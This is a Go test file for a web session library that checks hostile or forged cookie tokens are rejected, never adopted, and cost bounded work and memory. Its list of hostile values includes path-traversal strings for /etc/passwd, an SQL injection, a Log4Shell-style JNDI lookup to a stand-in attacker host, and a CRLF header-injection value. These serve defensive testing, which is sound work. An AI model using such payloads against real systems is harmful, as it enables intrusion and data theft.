package session_test

import (
	"bufio"
	"encoding/base64"
	"fmt"
	"io"
	"maps"
	"net"
	"net/http"
	"runtime"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"example.com/session"
)

// hostileValues are what a client may put where a token belongs, by what they try. None of them
// can be a token of ours.
func hostileValues() map[string]string {
	token := session.NewToken("").Value()
	packed := "AQAAAAAAAAAAAAAAAAAAAAAAAAGbdqO5gAAAAZt22b2gAAAAAAUmXAAAAAAAADbugAAAAA" // a record, not sealed
	return map[string]string{
		"nothing":              "",
		"a character":          "A",
		"one too short":        token[:42],
		"one too long":         token + "A",
		"two tokens":           token + token,
		"another spelling":     token[:42] + "B", // the last character has unused bits that are not zero
		"padding":              token + "=",
		"standard alphabet":    "+/" + token[2:],
		"quotes":               `"` + token + `"`,
		"a space inside":       token[:20] + " " + token[21:],
		"a tab inside":         token[:20] + "\t" + token[21:],
		"percent":              "%41" + token[3:],
		"over-long":            strings.Repeat("A", 5000),
		"100 kB":               strings.Repeat("A", 100_000),
		"parent directory":     "../../../../../../etc/passwd",
		"backslashes":          `..\..\..\windows\win.ini`,
		"absolute path":        "/etc/passwd",
		"43 bytes of path":     "../" + token[3:],
		"43 dots":              strings.Repeat(".", 43),
		"every key":            "*",
		"43 bytes of pattern":  strings.Repeat("[a-z]?*", 7)[:43],
		"a key of a store":     "session:session:" + token,
		"braces":               "{" + token[:41] + "}",
		"non-ASCII":            strings.Repeat("é", 22)[:43],
		"high bytes":           strings.Repeat("\xff", 43),
		"a wide space":         "\u2000" + token[:40],
		"JSON":                 `{"user":"eve"}`,
		"serialized PHP":       `O:8:"stdClass":1:{s:4:"user"}`,
		"an unsealed record":   packed,
		"Fernet":               "gAAAAABnbZ" + strings.Repeat("A", 90),
		"JWT without a seal":   "eyJhbGciOiJub25lIn0.eyJ1c2VyIjoiZXZlIn0.",
		"another version":      base64.RawURLEncoding.EncodeToString(append([]byte{2}, make([]byte, 120)...)),
		"an unknown key":       base64.RawURLEncoding.EncodeToString(append([]byte{1}, make([]byte, 120)...)),
		"an SQL":               "' OR 1=1 --",
		"a template":           "${jndi:ldap://evil.example/a}",
		"a header":             "a%0d%0aSet-Cookie:%20s_memory=x",
		"a hint":               "1",
		"the name of a cookie": "s_memory",
	}
}

// raw sends a Cookie line as it is, over a socket of its own, and returns the answer. The handler
// is the one that was set before.
func (s *site) raw(cookieLines ...string) page {
	s.t.Helper()
	conn, err := net.Dial("tcp", s.server.Listener.Addr().String())
	require.NoError(s.t, err)
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(time.Minute))
	request := "GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nConnection: close\r\n"
	for _, line := range cookieLines {
		request += "Cookie: " + line + "\r\n"
	}
	go io.WriteString(conn, request+"\r\n") // a server that has seen enough stops reading
	response, err := http.ReadResponse(bufio.NewReader(conn), nil)
	require.NoError(s.t, err)
	defer response.Body.Close()
	body, err := io.ReadAll(response.Body)
	require.NoError(s.t, err)
	return page{response, string(body)}
}

// serveAlways sets the handler of raw requests.
func (s *site) serveAlways(do func(own *session.Session)) {
	s.serve.Store(serveFunc(func(_ http.ResponseWriter, _ *http.Request, own *session.Session) { do(own) }))
}

// Reading under a token that nobody issued finds nothing, creates nothing and sets nothing.
func TestReadingUnderAHostileTokenLeavesNoTrace(t *testing.T) {
	everywhere(t, func(t *testing.T, s *site) {
		s.signIn()
		before := s.stored()
		s.serveAlways(func(own *session.Session) {
			assert.Empty(t, own.All())
			assert.True(t, own.IsNew())
		})
		for what, value := range hostileValues() {
			p := s.raw(s.cookie + "=" + value)
			assert.Equal(t, http.StatusOK, p.StatusCode, what)
			for _, c := range p.Cookies() {
				assert.Negative(t, c.MaxAge, "%s: %s", what, c.Raw)
			}
		}
		assert.Equal(t, before, s.stored())
	})
}

// Storing under one begins a session with a token of the server's own.
func TestAHostileTokenIsNeverAdopted(t *testing.T) {
	everywhere(t, func(t *testing.T, s *site) {
		for what, value := range hostileValues() {
			s.serveAlways(func(own *session.Session) { own.Set("user", "eve"); own.Regenerate() })
			issued := s.token(s.raw(s.cookie + "=" + value))
			assert.NotEqual(t, s.cookie+"="+value, issued, what)
			assert.Equal(t, "eve", s.user(issued), what)

			s.serveAlways(func(own *session.Session) { assert.Empty(t, own.All(), what) })
			s.raw(s.cookie + "=" + value)
		}
	})
}

// A made-up token of the right form is as dead as one of the wrong form.
func TestTokensThatWereNeverIssuedAreNotAdoptedAndNotStored(t *testing.T) {
	onServers(t, func(t *testing.T, s *site) {
		before := s.stored()
		for range 300 {
			p := s.ask(s.cookie+"="+session.NewToken("").Value(), func(own *session.Session) {
				assert.Empty(t, own.All())
				own.Destroy()
			})
			assert.Equal(t, http.StatusOK, p.StatusCode)
		}
		assert.Equal(t, before, s.stored(), "looking and signing out leave nothing")
		assert.EqualValues(t, 300, s.m.Stats().Unknown)

		made := s.cookie + "=" + session.NewToken("").Value()
		issued := s.token(s.ask(made, func(own *session.Session) { own.Set("user", "eve") }))
		assert.NotEqual(t, made, issued)
		assert.Empty(t, s.user(made))
	})
}

// Shape is checked before anything else: what cannot be a token costs a store nothing.
func TestNothingMalformedReachesAStore(t *testing.T) {
	store := newCountingStore()
	redis := new(countingRedis)
	redisDriver, err := session.NewRedisDriver(session.RedisConfig{Options: session.RedisOptions{Client: redis}})
	require.NoError(t, err)
	for what, value := range hostileValues() {
		tok := session.NewToken("s_x").WithValue(value)
		for _, driver := range []session.Driver{session.StoreDriver(store), redisDriver, session.NewMemoryDriver(session.MemoryConfig{})} {
			_, err := driver.Load(t.Context(), tok, time.Now())
			assert.ErrorIs(t, err, session.ErrNoSession, what)
			assert.NoError(t, driver.Destroy(t.Context(), tok), what)
		}
	}
	assert.Zero(t, store.calls)
	assert.Zero(t, redis.calls)
}

func TestANULInACookieIsNoSession(t *testing.T) {
	everywhere(t, func(t *testing.T, s *site) {
		cookie := s.signIn()
		served := false
		s.serveAlways(func(own *session.Session) { served = true; assert.Empty(t, own.All()) })
		for _, line := range []string{cookie + "\x00", s.cookie + "=\x00", "\x00" + cookie, s.cookie + "\x00=" + valueOf(cookie)} {
			p := s.raw(line)
			assert.Empty(t, p.Cookies())
			assert.True(t, served || p.StatusCode == http.StatusBadRequest, "net/http refuses it before us")
		}
		assert.Equal(t, "ann", s.user(cookie))
	})
}

// Names are compared byte for byte: what browsers take for another name is another name.
func TestCookieNamesAreMatchedByteForByte(t *testing.T) {
	everywhere(t, func(t *testing.T, s *site) {
		cookie := s.signIn()
		value := valueOf(cookie)
		s.serveAlways(func(own *session.Session) { assert.Empty(t, own.All()) })
		for _, line := range []string{
			"\u2000" + cookie, "\u00a0" + cookie, "\x0b" + cookie, "\x0c" + cookie, "x" + cookie,
			strings.ToUpper(s.cookie) + "=" + value, "__host-" + s.cookie[7:] + "=" + value,
			"=" + cookie, value, "$Version=1; $Path=" + value, "$Version=1," + cookie, "\"" + s.cookie + "\"=" + value,
			"a=\"; " + "b" + cookie + "\"", "x=" + cookie, s.cookie + "_f=" + value,
		} {
			p := s.raw(line)
			assert.Empty(t, p.cookie(s.cookie), "%q", line)
		}
		assert.Equal(t, "ann", s.user("a=b; "+cookie+"; c=d"))
	}, func(cfg *session.Config) { cfg.CookieAttributes.Prefix = "__Host-s_" })
}

// A cookie of one driver, or of one site, is nothing under another's name.
func TestSwappedCookiesOpenNothing(t *testing.T) {
	s := newSite(t, "redis")
	use := func(own *session.Session, do func(of *session.Session, name string)) {
		for _, name := range driverNames {
			of, err := own.Using(name)
			require.NoError(t, err)
			do(of, name)
		}
	}
	p := s.ask("", func(own *session.Session) {
		use(own, func(of *session.Session, name string) { of.Set("of", name) })
	})
	values := make(map[string]string)
	for _, name := range driverNames {
		c := p.cookie("s_" + name)
		require.NotNil(t, c)
		values[name] = c.Value
	}
	admin := newSite(t, "cookie", func(cfg *session.Config) { cfg.CookieAttributes.Prefix = "admin_" })
	admin.ask("admin_cookie="+values["cookie"], func(own *session.Session) {
		assert.Empty(t, own.All(), "of a manager with the same secret")
	})
	for from, value := range values {
		for to := range values {
			s.ask("s_"+to+"="+value, func(own *session.Session) {
				use(own, func(of *session.Session, name string) {
					if name == from && from == to {
						assert.Equal(t, name, of.Get("of"))
					} else {
						assert.Empty(t, of.All(), "%s in s_%s", from, to)
					}
				})
			})
		}
	}
}

// However many cookies come, at most four are looked up, nothing live is guessed among several,
// and the answer is that to a visitor.
func TestThousandsOfCookiesAreBoundedWork(t *testing.T) {
	everywhere(t, func(t *testing.T, s *site) {
		cookie := s.signIn()
		before := s.stored()
		s.serveAlways(func(own *session.Session) { assert.Empty(t, own.All()) })
		for _, n := range []int{4, 5, 100, 2900, 3100, 20_000} {
			pairs := make([]string, n)
			for i := range pairs {
				pairs[i] = s.cookie + "=" + session.NewToken("").Value()
			}
			pairs[n/2] = cookie
			lines := [][]string{{strings.Join(pairs, "; ")}}
			if n <= 100 {
				lines = append(lines, pairs) // a header line for each
			}
			for _, lines := range lines {
				loads := s.m.Stats().Loads
				if n == 4 {
					s.serveAlways(func(own *session.Session) { assert.Equal(t, "ann", own.Get("user"), "the only live one") })
				}
				p := s.raw(lines...)
				s.serveAlways(func(own *session.Session) { assert.Empty(t, own.All()) })
				if n < 20_000 {
					assert.Equal(t, http.StatusOK, p.StatusCode, n)
				} else {
					assert.Contains(t, []int{http.StatusOK, http.StatusRequestHeaderFieldsTooLarge}, p.StatusCode)
				}
				assert.LessOrEqual(t, s.m.Stats().Loads-loads, uint64(4), n)
			}
		}
		assert.Equal(t, before, s.stored())
		assert.Equal(t, "ann", s.user(cookie))
	})
}

// Two that live count as none: which of them the browser means cannot be told.
func TestTwoLiveCookiesCountAsNone(t *testing.T) {
	everywhere(t, func(t *testing.T, s *site) {
		one, two := s.signIn(), s.signIn()
		assert.Empty(t, s.user(one+"; "+two))
		assert.Empty(t, s.user(two+"; "+one))
		assert.Equal(t, "ann", s.user(one+"; "+one), "the same one twice is one")
		assert.Equal(t, "ann", s.user(one+"; "+s.cookie+"=tampered"))
	})
}

// Whoever kept a token from before a Regenerate or a Destroy cannot use it, write with it, or
// begin a session under it, at once or later.
func TestAReplayedTokenIsNeverRevivedOrAdopted(t *testing.T) {
	for name, end := range map[string]func(own *session.Session){
		"regenerate": (*session.Session).Regenerate,
		"destroy":    (*session.Session).Destroy,
	} {
		t.Run(name, func(t *testing.T) {
			onServers(t, func(t *testing.T, s *site) {
				old := s.signIn()
				live := s.ask(old, end).cookie(s.cookie)
				size := s.stored()
				replay := func(own *session.Session) {
					assert.Empty(t, own.All())
					own.Set("user", "eve")
				}
				p := s.ask(old, replay)
				assert.Empty(t, p.Cookies(), "it was under way when the session ended")
				assert.Equal(t, size, s.stored())
				if name == "regenerate" {
					assert.Equal(t, "ann", s.user(s.cookie+"="+live.Value))
				}
				for _, later := range []time.Duration{6 * time.Second, session.Tombstone, time.Minute} {
					s.clock.advance(later)
					issued := s.token(s.ask(old, replay))
					assert.NotEqual(t, old, issued)
					assert.Empty(t, s.user(old))
					assert.Equal(t, "eve", s.user(issued))
				}
			})
		})
	}
}

// A cookie that cannot be ours is answered in one way, whatever is wrong with it.
func TestEveryFailedOpeningLooksTheSame(t *testing.T) {
	opens, refused, _ := recordedCookies(t)
	everywhere(t, func(t *testing.T, s *site) {
		answers := make(map[string][]string)
		values := hostileValues()
		if s.cfg.Default == "cookie" {
			s.clock.milliseconds.Store(opens[0].Time)
			for _, v := range refused {
				if v.Secret == s.cfg.Secret && v.CookieName == s.cookie && !strings.ContainsAny(v.Cookie, " \r\n") { // no header ends so
					values[v.Name] = v.Cookie
				}
			}
			require.Greater(t, len(values), 60)
		}
		maps.Copy(values, tamperedValues(t, s))
		for what, value := range values {
			p := s.visit(s.cookie+"="+value, func(w http.ResponseWriter, _ *http.Request, own *session.Session) {
				fmt.Fprint(w, own.All(), own.IsNew(), own.Open(), own.Err())
			})
			p.Header.Del("Date")
			answer := fmt.Sprint(p.StatusCode, p.Header, p.body)
			answers[answer] = append(answers[answer], what)
		}
		assert.Len(t, answers, 1, "%v", answers)
		for answer := range answers {
			assert.Contains(t, answer, s.cookie+"=; Path=/; Max-Age=0")
		}
	}, func(cfg *session.Config) { cfg.Secret = opens[0].Secret })
}

// tamperedValues are a live token with a bit flipped, and on the cookie driver also one from the
// future, of another name and of a retired secret.
func tamperedValues(t *testing.T, s *site) map[string]string {
	value := valueOf(s.signIn())
	values := map[string]string{"truncated": value[:len(value)-1], "extended": value + "A"}
	if s.cfg.Default != "cookie" {
		return values
	}
	for _, at := range []int{0, 3, 10, 40, 60, len(value) - 1} {
		flipped := []byte(value)
		flipped[at] = "AB"[min(1, max(0, int('B'-flipped[at])))]
		if string(flipped) != value {
			values[fmt.Sprint("flipped at ", at)] = string(flipped)
		}
	}
	other := newSite(t, "cookie", func(cfg *session.Config) { cfg.Secret, cfg.CookieAttributes.Prefix = s.cfg.Secret, "other_" })
	values["other name"] = valueOf(other.signIn())
	retired := newSite(t, "cookie", func(cfg *session.Config) { cfg.Secret = session.NewSecret() })
	values["retired secret"] = valueOf(retired.signIn())
	future := newSite(t, "cookie", func(cfg *session.Config) { cfg.Secret = s.cfg.Secret })
	future.clock.milliseconds.Store(s.clock.now().Add(2 * time.Minute).UnixMilli())
	values["from the future"] = valueOf(future.signIn())
	return values
}

// It is cleared by the first answer, and then the browser has it no more.
func TestAnUnreadableCookieIsClearedOnce(t *testing.T) {
	everywhere(t, func(t *testing.T, s *site) {
		b := newBrowserAt(t, s.server)
		s.serveAlways(func(own *session.Session) { own.Get("k") })
		first := b.get("/", "Cookie", s.cookie+"=unreadable")
		require.Len(t, first.Cookies(), 1)
		assert.Negative(t, first.Cookies()[0].MaxAge)
		assert.Empty(t, b.get("/").Cookies())
		assert.EqualValues(t, 1, s.m.Stats().Tampered)

		s.serveAlways(func(own *session.Session) { own.Set("k", 1) })
		replaced := b.get("/", "Cookie", s.cookie+"=unreadable")
		require.Len(t, replaced.Cookies(), 1, "replaced, and not cleared as well")
		assert.Positive(t, replaced.Cookies()[0].MaxAge)
	})
}

// That of an unknown session is left alone: another process may know it, and one answer that
// comes late must not clear what a newer one has set.
func TestAnUnknownCookieIsLeftAlone(t *testing.T) {
	onServers(t, func(t *testing.T, s *site) {
		p := s.ask(s.cookie+"="+session.NewToken("").Value(), func(own *session.Session) { own.Get("k") })
		assert.Empty(t, p.Cookies())
	})
}

// A crowd of hostile clients at once leaves the memory where it was, and the people signed in.
func TestAFloodOfHostileRequestsIsBoundedInMemory(t *testing.T) {
	everywhere(t, func(t *testing.T, s *site) {
		cookie := s.signIn()
		before := s.stored()
		values := slices.Collect(maps.Values(hostileValues()))
		s.serveAlways(func(own *session.Session) {
			if own.Has("user") {
				t.Error("somebody got a session")
			}
		})
		s.flood(values) // fills what grows once
		heap := heapInUse()
		for range 4 {
			s.flood(values)
		}
		assert.Less(t, heapInUse(), heap+8<<20)
		assert.Equal(t, before, s.stored())
		assert.Equal(t, "ann", s.user(cookie))
	})
}

// flood sends some hundred requests from several clients at once.
func (s *site) flood(values []string) {
	var clients sync.WaitGroup
	for client := range 4 {
		clients.Go(func() {
			for i := client; i < 200; i += 4 {
				value := values[i%len(values)]
				if i%3 == 0 {
					value = session.NewToken("").Value()
				}
				r, err := http.NewRequest(http.MethodGet, s.server.URL, nil)
				if err != nil {
					s.t.Error(err)
					return
				}
				r.Header["Cookie"] = []string{s.cookie + "=" + strings.Map(sendable, value)}
				response, err := s.server.Client().Transport.RoundTrip(r)
				if err != nil {
					s.t.Error(err)
					return
				}
				io.Copy(io.Discard, response.Body)
				response.Body.Close()
			}
		})
	}
	clients.Wait()
}

// sendable drops what net/http's client does not send.
func sendable(r rune) rune {
	if r < ' ' || r == 0x7f {
		return -1
	}
	return r
}

func heapInUse() uint64 {
	runtime.GC()
	runtime.GC()
	var stats runtime.MemStats
	runtime.ReadMemStats(&stats)
	return stats.HeapAlloc
}
